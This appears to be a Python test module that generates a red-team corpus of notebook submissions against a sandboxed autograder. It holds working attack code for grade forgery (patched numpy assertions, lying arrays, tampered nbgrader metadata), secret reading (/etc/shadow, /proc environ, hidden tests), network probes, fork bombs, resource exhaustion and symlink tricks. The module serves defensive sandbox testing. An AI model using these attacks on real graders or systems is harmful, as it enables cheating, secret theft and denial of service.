"""Red-team corpus for the sandboxed grader: one student submission per attack.

Every attack is built programmatically from the instructor's notebooks:

* the *release* notebook (exercises/rnn/rnn.ipynb) gives the cell layout and nbgrader metadata;
* the *solution* answers (solutions/rnn/rnn.ipynb, solution markers removed) give working code,
  except that `rnn_step_forward` is made WRONG (the `tanh` is dropped, like the fixture student
  dave). This "honest wrong answer" scores exactly 2/7 (only softmax_cross_entropy is right).

An attack adds its code to one answer cell of that honest-wrong notebook (or replaces one of its
functions, or damages the file's structure). A successful attack would therefore show up as points
above the honest baseline, in particular on test_rnn_step_forward / test_rnn_forward, which an
honest wrong answer scores 0 on.

Nothing here runs student code; `build_class` only writes files. tests/test_redteam.py grades the
class through the real command (`python -m autograder grade rnn ...`) and checks the outcomes.
"""
from __future__ import annotations

import copy
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

from autograder.intake import is_test_cell
from autograder.solutions import answer_sources

ROOT = Path(__file__).resolve().parents[2]
RELEASE = ROOT / "exercises" / "rnn" / "rnn.ipynb"
SOLUTION = ROOT / "solutions" / "rnn" / "rnn.ipynb"
NAME = "rnn.ipynb"

STEP, FORWARD, LOSS = "rnn_step_forward", "rnn_forward", "softmax_cross_entropy"
TEST_OF = {STEP: "test_rnn_step_forward", FORWARD: "test_rnn_forward", LOSS: "test_softmax_cross_entropy"}
HONEST_WRONG_SCORE = 2.0   # the baseline every code attack is built on
FULL_SCORE = 7.0
LEAK_MARK = "REDTEAM-LEAKED"  # a probe that finds something raises RuntimeError(LEAK_MARK ...)
SECRET_ENV = "REDTEAM_GRADER_SECRET"  # set in the grader's environment by the test; must not reach a sandbox
SECRET_VALUE = "s3cr3t-env-7f1d"


@dataclass(frozen=True)
class Context:
    """Host paths an attack may aim at (the test passes the real ones of this run)."""

    class_dir: Path
    workdir: Path
    decoy: Path  # a host file that no submission may delete or change


@dataclass
class Attack:
    label: str             # also the student id (folder name)
    description: str
    cell: str | None       # grade_id of the answer cell the code goes into; None for file-level faults
    code: str              # the injected code, or a description of the structural change
    mode: str = "append"   # append | prepend | replace (the whole answer cell) | structure
    base: str = "wrong"    # wrong (honest wrong answer, 2/7) | solution (7/7) | blank (release, 0/7)
    max_score: float = HONEST_WRONG_SCORE  # the most this submission may score
    zero_tests: tuple[str, ...] = ("test_rnn_step_forward", "test_rnn_forward")  # must score 0
    exact_score: float | None = None       # when the outcome is fully determined
    probe: bool = False    # the softmax function raises LEAK_MARK if its probe found anything
    statuses: tuple[str, ...] = ()         # allowed statuses (empty: any)
    reason: str | None = None              # a text some reason or message must contain ("a|b": either)
    builder: Callable[["Attack", Path, Context], None] | None = None
    notes: dict = field(default_factory=dict)


# --------------------------------------------------------------------------- notebook helpers
def release_nb():
    return nbformat.read(RELEASE, as_version=4)


def solution_answers() -> dict[str, str]:
    return answer_sources(nbformat.read(SOLUTION, as_version=4))


def wrong_answers() -> dict[str, str]:
    """The honest wrong answer: rnn_step_forward without its tanh (2/7)."""
    answers = solution_answers()
    fixed = "return np.tanh(x @ Wx + h_prev @ Wh + b)"
    assert fixed in answers[STEP], "the solution changed; update the red-team corpus"
    answers[STEP] = answers[STEP].replace(fixed, "return x @ Wx + h_prev @ Wh + b")
    return answers


def notebook_with(answers: dict[str, str] | None):
    """The release notebook with `answers` in its answer cells (None: the blank release)."""
    nb = release_nb()
    if answers is not None:
        for c in nb.cells:
            gid = c.metadata.get("nbgrader", {}).get("grade_id")
            if c.metadata.get("nbgrader", {}).get("solution") and gid in answers:
                c.source = answers[gid]
    return nb


def base_answers(base: str) -> dict[str, str] | None:
    return {"wrong": wrong_answers, "solution": solution_answers, "blank": lambda: None}[base]()


def answer_cell(nb, gid: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def write_nb(nb, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))


def attacked_notebook(a: Attack, ctx: Context):
    answers = base_answers(a.base)
    if a.probe:
        answers[LOSS] = probe_softmax(a.code)
    nb = notebook_with(answers)
    if a.cell and not a.probe:
        cell = answer_cell(nb, a.cell)
        code = fill(a.code, ctx)
        cell.source = {"append": cell.source + "\n\n" + code, "prepend": code + "\n\n" + cell.source,
                       "replace": code}[a.mode]
    elif a.probe:
        cell = answer_cell(nb, LOSS)
        cell.source = fill(cell.source, ctx)
    return nb


def fill(code: str, ctx: Context) -> str:
    """Put the run's real host paths into an attack's {placeholders} (nothing else is touched)."""
    for key, value in _paths(ctx).items():
        code = code.replace("{" + key + "}", value)
    return code


def _paths(ctx: Context) -> dict:
    return {"class_dir": str(ctx.class_dir), "workdir": str(ctx.workdir), "decoy": str(ctx.decoy),
            "root": str(ROOT), "secret_env": SECRET_ENV, "secret_value": SECRET_VALUE, "mark": LEAK_MARK,
            "python_tops": repr(_python_tops())}


def _python_tops() -> list[str]:
    """Top-level folders the sandbox creates to mount the Python installation (they hold nothing else)."""
    return sorted({Path(p).parts[1] for p in (sys.prefix, sys.base_prefix) if len(Path(p).parts) > 1})


def build_default(a: Attack, folder: Path, ctx: Context) -> None:
    write_nb(attacked_notebook(a, ctx), folder / NAME)


# --------------------------------------------------------------------------- probes
# A probe attack replaces softmax_cross_entropy (correct in the honest wrong answer) by a version that
# first runs the probe, both when its cell runs and on every test call. The probe returns the list of
# things it managed to do; if the list is not empty the function raises RuntimeError(LEAK_MARK ...),
# which the grader records in the test messages and which costs the 2 points. So "2/2 on
# test_softmax_cross_entropy and no LEAK_MARK" proves that every attempt failed on every call.
PROBE_TEMPLATE = '''\
import numpy as np

def _probe():
    found = []
{body}
    return found

_found_at_cell_time = _probe()

def softmax_cross_entropy(logits, y):
    found = _found_at_cell_time + _probe()
    if found:
        raise RuntimeError("{mark}: " + repr(found)[:1500])
    z = logits - logits.max(axis=-1, keepdims=True)
    log_probs = z - np.log(np.exp(z).sum(axis=-1, keepdims=True))
    return -np.take_along_axis(log_probs, y[..., None], axis=-1).mean()
'''


def probe_softmax(body: str) -> str:
    # the body's {placeholders} (and the template's {mark}) are filled later by `fill`
    return PROBE_TEMPLATE.replace("{body}", textwrap.indent(textwrap.dedent(body).strip("\n"), "    "))


READ_SECRETS = '''
import os
import sys
targets = ["{root}/solutions/rnn/rnn.ipynb", "{root}/autograder/hidden/rnn.py",
           "{root}/autograder/gradebook.db", "{workdir}/gradebook.db", "{root}/README.md",
           "{class_dir}/alice/rnn.ipynb", "{decoy}", "/etc/passwd", "/etc/shadow", "/root/.bash_history"]
for t in targets:
    try:
        with open(t, "rb") as f:
            found.append(("read", t, len(f.read(100))))
    except OSError:
        pass
for d in ["{class_dir}", "{workdir}", "{root}/autograder", "{root}/solutions", "/home", "/root/.ssh"]:
    try:
        found.append(("listed", d, os.listdir(d)[:5]))
    except OSError:
        pass
try:
    extra = sorted(set(os.listdir("{root}")) - {".venv"})
    if extra:
        found.append(("course dir visible", extra[:5]))
except OSError:
    pass
try:
    import autograder.hidden.rnn as h
    found.append(("imported hidden tests", h.CANARY))
except Exception:
    pass
'''

READ_PROC = '''
import os
import sys
if "{secret_env}" in os.environ:
    found.append(("env", os.environ["{secret_env}"]))
for pid in ["1", "2", "self"] + [p for p in os.listdir("/proc") if p.isdigit()][:50]:
    try:
        with open("/proc/%s/environ" % pid, "rb") as f:
            env = f.read().decode(errors="replace")
        if "{secret_value}" in env or "VIRTUAL_ENV" in env or "PYTHONPATH" in env or "HOME=/root" in env:
            found.append(("environ", pid, env[:200]))
    except OSError:
        pass
try:
    top = sorted(os.listdir("/"))
    unexpected = sorted(set(top) - {"bin", "dev", "job", "lib", "lib32", "lib64", "proc", "root", "sbin", "tmp",
                                      "usr", "etc"} - set({python_tops}))
    if unexpected:
        found.append(("listing of / shows", unexpected))
except OSError:
    pass
try:
    if os.path.exists("/etc") and set(os.listdir("/etc")) - {"ld.so.cache"}:
        found.append(("/etc holds", sorted(os.listdir("/etc"))[:10]))
except OSError:
    pass
'''

NETWORK = '''
import socket
for host, port in [("127.0.0.1", 22), ("127.0.0.1", 8888), ("127.0.0.1", 80), ("1.1.1.1", 53),
                   ("8.8.8.8", 53), ("140.82.112.3", 443)]:
    try:
        socket.create_connection((host, port), timeout=0.2).close()
        found.append(("connected", host, port))
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    found.append(("dns works",))
except OSError:
    pass
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"leak", ("1.1.1.1", 53))
    found.append(("udp sent",))
except OSError:
    pass
try:
    ifaces = [n for _, n in socket.if_nameindex() if n != "lo"]
    if ifaces:
        found.append(("interfaces", ifaces))
except OSError:
    pass
'''

WRITE_FAKES = '''
import os, json, sqlite3
fake = {"student": "w_fake_results", "score": 7, "max_score": 7, "status": "graded", "reasons": []}
for path in ["{workdir}/results/rnn/w_fake_results.json", "{workdir}/results/rnn/alice.json",
             "{root}/autograder/results/rnn/w_fake_results.json"]:
    try:
        with open(path, "w") as f:
            json.dump(fake, f)
        found.append(("wrote", path))
    except OSError:
        pass
for db in ["{workdir}/gradebook.db", "{root}/autograder/gradebook.db"]:
    if os.path.exists(db):
        try:
            con = sqlite3.connect(db)
            con.execute("UPDATE grade SET manual_score = 100")
            con.commit()
            found.append(("gradebook updated", db))
        except Exception:
            pass
for path in ["{decoy}", "{root}/README.md", "{root}/solutions/rnn/rnn.ipynb", "{class_dir}/alice/rnn.ipynb",
             "{workdir}/grades/grades.csv"]:
    try:
        os.remove(path)
        found.append(("deleted", path))
    except OSError:
        pass
    try:
        with open(path, "a") as f:
            f.write("tampered")
        found.append(("appended to", path))
    except OSError:
        pass
'''

# --------------------------------------------------------------------------- lying return values
LIE_SUBCLASS = '''
import numpy as np

class Liar(np.ndarray):
    """An ndarray whose comparisons all say 'equal' and whose ufuncs answer True or zero."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if ufunc in (np.isclose, np.equal, np.isfinite):
            return True
        return np.zeros(1)
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __bool__(self): return True

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    return np.asarray(x @ Wx + h_prev @ Wh + b).view(Liar)
'''

LIE_EQ_OBJECT = '''
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    shape = property(lambda self: (2, 4))
    dtype = property(lambda self: np.dtype("float64"))

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    return AlwaysEqual()
'''

# --------------------------------------------------------------------------- the corpus
def fork_hog(children: int = 8, mb: int = 120) -> str:
    """Answer-cell code that forks `children` processes, each touching `mb` MB for a second (issue 15 saw 8 x 880 MB
    take 4.3 GB of a 24 GB machine): each process stays far under RLIMIT_AS, only their sum is too much."""
    return textwrap.dedent(f"""
        import os, time
        _children = []
        for _ in range({children}):
            _pid = os.fork()
            if _pid == 0:
                try:
                    _held = b"x" * ({mb} * 2**20)
                    time.sleep(1)
                finally:
                    os._exit(0)
            _children.append(_pid)
        for _pid in _children:
            os.waitpid(_pid, 0)
        """).strip("\n")


def _code(label, desc, cell, code, **kw) -> Attack:
    return Attack(label, desc, cell, textwrap.dedent(code).strip("\n"), **kw)


def _probe(label, desc, body, **kw) -> Attack:
    return Attack(label, desc, LOSS, textwrap.dedent(body).strip("\n"), probe=True,
                  exact_score=HONEST_WRONG_SCORE, **kw)


def _replace_step(label, desc, fn_code, **kw) -> Attack:
    """Replace the (wrong) rnn_step_forward by `fn_code`; rnn_forward still calls it."""
    return Attack(label, desc, STEP, textwrap.dedent(fn_code).strip("\n"), mode="replace", **kw)


ATTACKS: list[Attack] = [
    # ---- A2: monkeypatching the comparison machinery (tests run in the trusted process, so no effect)
    _code("p_allclose", "np.allclose / np.isclose / np.array_equal always True", STEP, """
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        """, exact_score=2),
    _code("p_assert_allclose", "np.testing.assert_allclose (and friends) patched to do nothing", STEP, """
        import numpy.testing
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_almost_equal = lambda *a, **k: None
        numpy.testing.assert_equal = lambda *a, **k: None
        """, exact_score=2),
    _code("p_assertionerror", "builtins.AssertionError replaced; `type`, `isinstance` shadowed", STEP, """
        import builtins
        builtins.AssertionError = type("NotAnAssertion", (Exception,), {})
        builtins.isinstance = lambda *a: True
        type = lambda *a: True
        """, max_score=2),
    _code("p_custom_exc", "get_ipython().set_custom_exc swallowing every exception", STEP, """
        try:
            get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
        except NameError:
            from IPython.core.interactiveshell import InteractiveShell
            InteractiveShell.instance().set_custom_exc((BaseException,), lambda *a, **k: None)
        """, exact_score=2),
    _code("p_showtraceback", "InteractiveShell.showtraceback / showsyntaxerror disabled", STEP, """
        from IPython.core.interactiveshell import InteractiveShell
        InteractiveShell.showtraceback = lambda *a, **k: None
        InteractiveShell.showsyntaxerror = lambda *a, **k: None
        """, exact_score=2),
    _code("p_excepthook", "sys.excepthook and threading.excepthook silenced; traceback module stubbed", STEP, """
        import sys, threading, traceback
        sys.excepthook = lambda *a: None
        threading.excepthook = lambda *a: None
        traceback.format_exception_only = lambda *a, **k: ["ok"]
        traceback.extract_tb = lambda *a, **k: []
        """, exact_score=2),
    _code("p_runner_globals", "rewrite the runner from inside: its alarm helper, its savez, its event log", STEP, """
        import sys
        runner = sys.modules["__main__"]
        runner.limited = lambda fn: fn()                       # no per-call alarm
        runner.describe = lambda exc: "ok"
        np.savez = lambda path, *arrays: np.lib.npyio.savez(path, *[np.zeros_like(a) for a in arrays])
        """, max_score=2, zero_tests=tuple(TEST_OF.values())),
    _code("p_fake_outputs", "write result files and 'done' in /job/out itself (forged result channel)", STEP, """
        import json, os
        calls = json.load(open("/job/job.json"))["calls"]
        for c in calls:
            with np.load("/job/" + c["inputs"]) as d:
                args = [d["arr_%d" % i] for i in range(len(d.files))]
            np.savez("/job/out/%d.npz" % c["case"], np.zeros((args[0].shape[0], args[1].shape[-1]))
                     if c["func"] == "rnn_step_forward" else np.zeros(3))
        with open("/job/out/events.log", "a") as f:
            f.write("done\\n")
        with open("/job/out/cells.json", "w") as f:
            json.dump({"rnn_step_forward": "ok"}, f)
        os._exit(0)
        """, max_score=0, exact_score=0),
    # ---- A3: lying return values
    _replace_step("r_ndarray_subclass", "returns the wrong array as an ndarray subclass whose __eq__, "
                  "__array_ufunc__ and __array_function__ lie", LIE_SUBCLASS, exact_score=2),
    _replace_step("r_eq_object", "returns an object with __eq__ -> True (and a fake shape/dtype)",
                  LIE_EQ_OBJECT, exact_score=2, reason="not a numeric array"),
    _replace_step("r_nan", "returns NaN of the right shape and dtype", """
        def rnn_step_forward(x, h_prev, Wx, Wh, b):
            return np.full((x.shape[0], Wh.shape[0]), np.nan, dtype=x.dtype)
        """, exact_score=2, reason="nan"),
    _replace_step("r_inf_scalar", "returns a scalar (would broadcast against anything)", """
        def rnn_step_forward(x, h_prev, Wx, Wh, b):
            return np.float64(0.5)
        """, exact_score=2, reason="shape"),
    _replace_step("r_odd_dtypes", "returns complex / bool / structured / object arrays by case", """
        _n = [0]
        def rnn_step_forward(x, h_prev, Wx, Wh, b):
            h = x @ Wx + h_prev @ Wh + b
            _n[0] += 1
            kinds = [h.astype(complex), h > 0, np.zeros(h.shape, dtype=[("a", "f8")]),
                     np.array([h, "x"], dtype=object), [list(r) for r in h]]
            return kinds[_n[0] % len(kinds)]
        """, exact_score=2),
    # ---- A1: reading, writing, network (a probe that succeeds costs the 2 softmax points)
    _probe("f_read_secrets", "open the solutions notebook, hidden tests, gradebook.db, other students' "
           "notebooks, /etc/shadow; list the class folder, workdir, course dir; import the hidden tests",
           READ_SECRETS),
    _probe("f_proc_environ", "read the grader's environment (/proc/1/environ, /proc/*/environ, os.environ) "
           "and list /", READ_PROC),
    _probe("f_write_fakes", "write a fake results JSON, UPDATE the gradebook, delete/append to the decoy, "
           "README.md, solutions, other students' notebooks, grades.csv", WRITE_FAKES),
    _probe("f_network", "socket.create_connection to 127.0.0.1 and external IPs, DNS, UDP", NETWORK),
    # ---- B3: exits and kills
    _code("x_sys_exit", "sys.exit(0) at the end of the rnn_step_forward cell", STEP,
          "import sys\nsys.exit(0)", exact_score=2, reason="SystemExit"),
    _code("x_raise_systemexit", "raise SystemExit(0) when its function is called", STEP, """
        def rnn_step_forward(x, h_prev, Wx, Wh, b):
            raise SystemExit(0)
        """, exact_score=2, reason="SystemExit"),
    _code("x_os_exit", "os._exit(0) in the first answer cell: the runner dies with exit code 0", STEP,
          "import os\nos._exit(0)", max_score=0, exact_score=0, reason="ended early with exit code 0"),
    _code("x_os_exit_in_call", "os._exit(0) during the first test call", STEP, """
        import os
        def rnn_step_forward(x, h_prev, Wx, Wh, b):
            os._exit(0)
        """, max_score=0, exact_score=0, reason="ended early"),
    _code("x_rm_process_log", "delete the runner's log /job/out/process.txt, then os._exit(1)", STEP, """
        import os
        os.remove("/job/out/process.txt")
        os._exit(1)
        """, max_score=0, exact_score=0, reason="ended early with exit code 1"),
    _code("x_kill_self", "os.kill(os.getpid(), 9) in the last answer cell", LOSS,
          "import os\nos.kill(os.getpid(), 9)", max_score=0, exact_score=0, reason="ended early"),
    _code("x_keyboardinterrupt", "raise KeyboardInterrupt in a cell and in a call", STEP, """
        def rnn_step_forward(x, h_prev, Wx, Wh, b):
            raise KeyboardInterrupt
        raise KeyboardInterrupt
        """, exact_score=2, reason="KeyboardInterrupt"),
    # ---- B1: time
    _code("t_loop_sigign", "signal.signal(SIGALRM, SIG_IGN) then an infinite loop in a cell", LOSS, """
        import signal
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        signal.setitimer(signal.ITIMER_REAL, 0)
        while True:
            pass
        """, max_score=0, exact_score=0, reason="ignored the alarm"),
    _code("t_loop_keepalive", "infinite loop that keeps appending to events.log to defeat the stall detector",
          LOSS, """
        import signal, time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            with open("/job/out/events.log", "a") as f:
                f.write("call 0\\n")
            time.sleep(0.05)
        """, max_score=0, exact_score=0, reason="whole notebook"),
    # ---- B2: memory
    _code("m_ones", "np.ones((10**6, 10**6)) in a cell and in a call", STEP, """
        big = np.ones((10**6, 10**6))
        """, exact_score=2, reason="MemoryError"),
    _code("m_append", "list.append loop until memory runs out", STEP, """
        hog = []
        while True:
            hog.append(bytearray(10**6))
        """, max_score=2, reason="MemoryError|timed out"),
    _code("m_tmpfs", "fill the sandbox's /tmp (RAM-backed tmpfs, outside RLIMIT_AS) with 4 MiB files; "
          "if 1 GiB fits, sabotage its own softmax so the test notices", LOSS, """
        import os
        _written = 0
        try:
            for i in range(100000):
                with open("/tmp/fill%d" % i, "wb") as f:
                    for _ in range(4):
                        f.write(b"x" * 2**20)
                _written += 4
                if _written >= 1024:
                    break
        except OSError:
            pass
        for i in range(100000):
            try:
                os.remove("/tmp/fill%d" % i)
            except OSError:
                break
        if _written >= 1024:
            def softmax_cross_entropy(logits, y, _w=_written):
                raise RuntimeError("{mark}: wrote %d MiB into the sandbox's RAM-backed /tmp" % _w)
        """, exact_score=2),
    _code("m_fork_children", "8 forked children each touching 120 MB: every process under RLIMIT_AS, together past "
          "the memory bound", STEP, fork_hog(), exact_score=0, statuses=("needs attention",),
          reason="used more than"),
    # ---- B4/15: processes
    _code("n_fork_bomb", "fork bomb: every process forks until refused, then sleeps (bounded: the pids "
          "limit and the PID namespace contain it)", STEP, """
        import os, time
        try:
            while True:
                if os.fork() == 0:
                    try:
                        while True:
                            os.fork()
                    except BaseException:
                        pass
                    time.sleep(60)
                    os._exit(0)
        except OSError:
            pass
        """, max_score=2),
    _code("n_background", "background processes left running: Popen(['sleep','1000']) and a setsid "
          "double-forked daemon", STEP, """
        import os, subprocess
        subprocess.Popen(["sleep", "1000"])
        subprocess.Popen(["sleep", "1001"], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "1002"])
            os._exit(0)
        """, exact_score=2),
    # ---- B5: output
    _code("o_print_flood", "print('x' * 10**8) and stderr flood", STEP, """
        import sys
        print("x" * 10**8)
        sys.stderr.write("y" * 10**7)
        """, exact_score=2),
    _code("o_fd_flood", "os.write(1, ...) and os.write(2, ...) floods on the raw file descriptors", STEP, """
        import os
        chunk = b"z" * 2**20
        for _ in range(64):
            os.write(1, chunk)
            os.write(2, chunk)
        """, max_score=2),
    _code("d_disk_fill", "fill the host disk through the job folder: many 1 MiB files in /job", STEP, """
        import os
        os.makedirs("/job/fill", exist_ok=True)
        for i in range(10**6):
            with open(f"/job/fill/{i}", "wb") as f:
                f.write(b"d" * 2**20)
        """, max_score=2),
    # ---- A4 via the result folder: links and FIFOs the trusted side might follow
    _code("l_symlink_out", "replace every result/log file in /job/out by a symlink to host secrets "
          "(hidden tests, solutions, /etc/shadow), then exit", STEP, """
        import json, os
        n = len(json.load(open("/job/job.json"))["calls"])
        targets = ["{root}/autograder/hidden/rnn.py", "{root}/solutions/rnn/rnn.ipynb", "/etc/shadow"]
        for i in range(n):
            for ext in (".err", ".npz"):
                try:
                    os.symlink(targets[i % 3], "/job/out/%d%s" % (i, ext))
                except OSError:
                    pass
        for name in ("process.txt", "cells.json", "events.log"):
            try:
                os.remove("/job/out/" + name)
            except OSError:
                pass
            os.symlink("{root}/autograder/hidden/rnn.py", "/job/out/" + name)
        os._exit(0)
        """, max_score=0, exact_score=0),
    _code("l_symlink_outdir", "replace /job/out itself by a symlink to the course's hidden-test folder",
          STEP, """
        import os, shutil
        shutil.rmtree("/job/out", ignore_errors=True)
        os.symlink("{root}/autograder/hidden", "/job/out")
        os._exit(0)
        """, max_score=0, exact_score=0),
    _code("l_fifo_out", "FIFOs in place of the result and log files (a reader that opens them would hang)",
          STEP, """
        import json, os
        n = len(json.load(open("/job/job.json"))["calls"])
        for i in range(n):
            os.mkfifo("/job/out/%d.err" % i)
        for name in ("process.txt", "cells.json", "events.log"):
            try:
                os.remove("/job/out/" + name)
            except OSError:
                pass
            os.mkfifo("/job/out/" + name)
        os._exit(0)
        """, max_score=0, exact_score=0),
]


# --------------------------------------------------------------------------- structural faults (C1)
def _structural(label, desc, change, fn, **kw) -> Attack:
    kw.setdefault("exact_score", HONEST_WRONG_SCORE)
    return Attack(label, desc, None, change, mode="structure", builder=fn, **kw)


def _wrong_nb():
    return notebook_with(wrong_answers())


def _write_text(folder: Path, text: str, name: str = NAME) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text)


def _s_invalid_json(a, folder, ctx):
    _write_text(folder, '{"cells": [ {"cell_type": "code", "source": "def rnn_step_forward(')


def _s_empty(a, folder, ctx):
    _write_text(folder, "")


def _s_truncated(a, folder, ctx):
    text = nbformat.writes(_wrong_nb())
    _write_text(folder, text[: len(text) // 2])


def _s_v3(a, folder, ctx):
    nb3 = nbformat.convert(_wrong_nb(), 3)
    _write_text(folder, nbformat.writes(nb3, version=3))


def _s_deleted_tests(a, folder, ctx):
    nb = _wrong_nb()
    nb.cells = [c for c in nb.cells if not is_test_cell(c)]
    write_nb(nb, folder / NAME)


def _s_duplicated_test(a, folder, ctx):
    nb = _wrong_nb()
    i = next(i for i, c in enumerate(nb.cells) if is_test_cell(c))
    nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
    nb.cells.append(copy.deepcopy(nb.cells[i]))
    write_nb(nb, folder / NAME)


def _s_duplicated_grade_id(a, folder, ctx):
    """Two answer cells claim grade_id rnn_step_forward (the first one right, the last one wrong),
    and a test cell's grade_id is reused on an extra answer cell with 100 points."""
    nb = _wrong_nb()
    step = answer_cell(nb, STEP)
    right = copy.deepcopy(step)
    right.source = solution_answers()[STEP]
    nb.cells.insert(nb.cells.index(step), right)
    rogue = copy.deepcopy(step)
    rogue.metadata["nbgrader"].update(grade_id="test_rnn_forward", grade=True, points=100)
    nb.cells.append(rogue)
    write_nb(nb, folder / NAME)


def _s_test_to_markdown(a, folder, ctx):
    nb = _wrong_nb()
    for i, c in enumerate(nb.cells):
        if is_test_cell(c):
            md = nbformat.v4.new_markdown_cell(c.source, metadata=c.metadata)
            nb.cells[i] = md
    write_nb(nb, folder / NAME)


def _s_points(a, folder, ctx):
    nb = _wrong_nb()
    for c in nb.cells:
        m = c.metadata.get("nbgrader", {})
        if m.get("grade"):
            m["points"] = 100
            m["checksum"] = "0" * 32
        if m.get("solution"):  # an answer cell that claims to be a graded cell worth 100
            m.update(grade=True, points=100)
    nb.metadata["nbgrader"] = {"total_points": 700}
    write_nb(nb, folder / NAME)


def _s_no_metadata(a, folder, ctx):
    nb = _wrong_nb()
    for c in nb.cells:
        c.metadata.pop("nbgrader", None)
    write_nb(nb, folder / NAME)


def _s_renamed(a, folder, ctx):
    write_nb(_wrong_nb(), folder / "rnn-Copy1 (final).ipynb")


def _s_two_notebooks(a, folder, ctx):
    write_nb(_wrong_nb(), folder / NAME)
    later = notebook_with(solution_answers())  # someone else's full solution, saved later
    write_nb(later, folder / "scratch.ipynb")


def _s_huge(a, folder, ctx):
    nb = _wrong_nb()
    nb.cells.append(nbformat.v4.new_markdown_cell("A" * (25 * 2**20)))
    write_nb(nb, folder / NAME)


def _s_answer_is_markdown(a, folder, ctx):
    """The rnn_step_forward answer cell is a markdown cell holding the right code (not run)."""
    nb = _wrong_nb()
    step = answer_cell(nb, STEP)
    md = nbformat.v4.new_markdown_cell(solution_answers()[STEP], metadata=copy.deepcopy(step.metadata))
    nb.cells[nb.cells.index(step)] = md
    write_nb(nb, folder / NAME)


def _s_locked_edited(a, folder, ctx):
    """The setup cell and every test cell rewritten to define passing stubs / print 'passed'."""
    nb = _wrong_nb()
    for c in nb.cells:
        m = c.metadata.get("nbgrader", {})
        if c.cell_type == "code" and m.get("locked"):
            c.source = "import numpy as np\nprint('all tests passed')\nnp.allclose = lambda *a, **k: True"
    write_nb(nb, folder / NAME)


STRUCTURAL: list[Attack] = [
    _structural("s_invalid_json", "file is not valid JSON", "truncated JSON text", _s_invalid_json,
                max_score=0, exact_score=0, statuses=("ungradable",), reason="not a readable notebook"),
    _structural("s_empty", "empty file", "0 bytes", _s_empty, max_score=0, exact_score=0,
                statuses=("ungradable",), reason="not a readable notebook"),
    _structural("s_truncated", "a valid notebook cut in half", "first half of the bytes", _s_truncated,
                max_score=0, exact_score=0, statuses=("ungradable",)),
    _structural("s_nbformat_v3", "the honest wrong answer saved as nbformat v3", "nbformat.convert(nb, 3)",
                _s_v3, max_score=2, exact_score=None),
    _structural("s_deleted_tests", "every test cell deleted", "test cells removed", _s_deleted_tests),
    _structural("s_duplicated_test", "a test cell duplicated twice", "copies of test_rnn_step_forward",
                _s_duplicated_test),
    _structural("s_duplicated_grade_id", "two answer cells with grade_id rnn_step_forward (right one first), "
                "plus an answer cell re-using a test's grade_id with 100 points", "duplicate grade ids",
                _s_duplicated_grade_id, reason="appears 2 times"),
    _structural("s_test_to_markdown", "every test cell turned into a markdown cell", "cell_type: markdown",
                _s_test_to_markdown),
    _structural("s_points_tampered", "points: 100 and a zeroed checksum on every graded cell; answer cells "
                "marked graded with 100 points", "metadata tampering", _s_points),
    _structural("s_no_metadata", "answer (and every other) cell lost its nbgrader metadata",
                "metadata.nbgrader removed", _s_no_metadata, reason="lost its nbgrader metadata"),
    _structural("s_answer_markdown", "the rnn_step_forward answer saved as a markdown cell holding the "
                "right code", "cell_type: markdown on an answer cell", _s_answer_is_markdown,
                exact_score=None, max_score=2),
    _structural("s_locked_edited", "setup and test cells rewritten (print 'all tests passed', patch allclose)",
                "locked cells edited", _s_locked_edited),
    _structural("s_renamed", "notebook renamed 'rnn-Copy1 (final).ipynb'", "file name", _s_renamed,
                reason="not rnn.ipynb"),
    _structural("s_two_notebooks", "rnn.ipynb (honest wrong) plus a newer scratch.ipynb holding a full "
                "solution", "two notebooks", _s_two_notebooks),
    _structural("s_huge", "a 25 MB notebook (one giant markdown cell)", "25 MiB", _s_huge,
                max_score=0, exact_score=0, statuses=("ungradable",), reason="larger than 20 MiB"),
]

ALL: list[Attack] = ATTACKS + STRUCTURAL

# Honest references graded in the same batch.
REFERENCES = {"alice": ("solution", FULL_SCORE), "dave": ("wrong", HONEST_WRONG_SCORE), "bob": ("blank", 0.0)}


def build_class(class_dir: Path, ctx: Context, attacks: list[Attack] = ALL) -> None:
    """One folder per attack, plus the honest references alice (7/7), dave (2/7) and bob (0/7)."""
    for student, (base, _) in REFERENCES.items():
        write_nb(notebook_with(base_answers(base)), class_dir / student / NAME)
    for a in attacks:
        (a.builder or build_default)(a, class_dir / a.label, ctx)


def describe_corpus(attacks: list[Attack] = ALL) -> str:
    return "\n".join(f"{a.label:24s} [{a.cell or 'file'}] {a.description}" for a in attacks)


if __name__ == "__main__":  # `python tests/redteam/attacks.py OUT_DIR`: write the class folder only
    import sys
    out = Path(sys.argv[1])
    build_class(out, Context(out, Path("/tmp/redteam-work"), Path("/tmp/redteam-decoy")))
    print(describe_corpus())
